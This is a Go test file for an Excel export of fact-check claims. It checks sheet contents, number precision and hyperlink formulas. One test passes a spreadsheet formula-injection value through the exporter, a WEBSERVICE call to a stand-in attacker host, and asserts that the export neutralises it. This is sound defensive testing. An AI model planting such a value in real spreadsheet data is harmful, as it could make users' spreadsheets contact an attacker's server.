package report

import (
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"tallywire/claims"
)

func openBook(t *testing.T, cs []claims.Claim) *excelize.File {
	t.Helper()
	var b bytes.Buffer
	if err := desk.XLSX(&b, cs); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func TestWorkbook(t *testing.T) {
	t.Parallel()
	cs := board(t)
	f := openBook(t, cs)
	if got := strings.Join(f.GetSheetList(), " "); got != "Claims Mentions History" {
		t.Fatalf("sheets %s", got)
	}
	mentions, history := 1, 1
	for _, c := range cs {
		mentions += len(c.Mentions)
		history += len(c.History)
	}
	for name, want := range map[string]int{"Claims": len(cs) + 1, "Mentions": mentions, "History": history} {
		rows, err := f.GetRows(name)
		if err != nil || len(rows) != want {
			t.Errorf("sheet %s: %d rows, %v; want %d", name, len(rows), err, want)
		}
	}
	for i, c := range cs {
		if c.ID != "c_82b12bf67e60d187" {
			continue
		}
		cell, err := excelize.CoordinatesToCellName(5, i+2)
		if err != nil {
			t.Fatal(err)
		}
		shown, _ := f.GetCellValue("Claims", cell)
		raw, _ := f.GetCellValue("Claims", cell, excelize.Options{RawCellValue: true})
		if shown != "5,757" || raw != "5757" {
			t.Errorf("best value shown %q, kept %q; want 5,757 and 5757", shown, raw)
		}
		link, _ := f.GetCellFormula("Claims", strings.Replace(cell, "E", "A", 1))
		if link != `HYPERLINK("https://desk.example/claims/c_82b12bf67e60d187","c_82b12bf67e60d187")` {
			t.Errorf("link %q", link)
		}
	}
}

func TestWorkbookHoldsNoFormulaButLinks(t *testing.T) {
	t.Parallel()
	for _, s := range append([]string{`https://x.example/"&WEBSERVICE("https://evil.example")&"`, `https://x.example/` + strings.Repeat("a", 300)}, injections...) {
		f := openBook(t, []claims.Claim{hostile(s)})
		for _, name := range f.GetSheetList() {
			rows, err := f.GetRows(name)
			if err != nil {
				t.Fatal(err)
			}
			for r, row := range rows {
				for c, value := range row {
					at, _ := excelize.CoordinatesToCellName(c+1, r+1)
					formula, _ := f.GetCellFormula(name, at)
					// An even number of quotes between the first and the last: none of them ends the text.
					inner := strings.TrimSuffix(strings.TrimPrefix(formula, `HYPERLINK("`), `")`)
					if formula != "" && (!strings.HasPrefix(formula, `HYPERLINK("http`) || strings.Count(strings.ReplaceAll(inner, `""`, ""), `"`) != 2) {
						t.Errorf("%q: cell %s!%s has the formula %q", s, name, at, formula)
					}
					if formula == "" && !inert(value) {
						t.Errorf("%q: cell %s!%s is %q", s, name, at, value)
					}
				}
			}
		}
	}
}

func TestWorkbookKeepsLongNumbers(t *testing.T) {
	t.Parallel()
	n, err := claims.ParseNumber("9007199254740993")
	if err != nil {
		t.Fatal(err)
	}
	small, err := claims.ParseNumber("-0.125")
	if err != nil {
		t.Fatal(err)
	}
	c := hostile("x")
	c.Value = claims.Value{Low: small, Best: n, High: n}
	f := openBook(t, []claims.Claim{c})
	if got, _ := f.GetCellValue("Claims", "E2"); got != "9007199254740993" {
		t.Errorf("best is %q", got)
	}
	if got, _ := f.GetCellValue("Claims", "D2"); got != "-0.125" {
		t.Errorf("low is %q", got)
	}
}
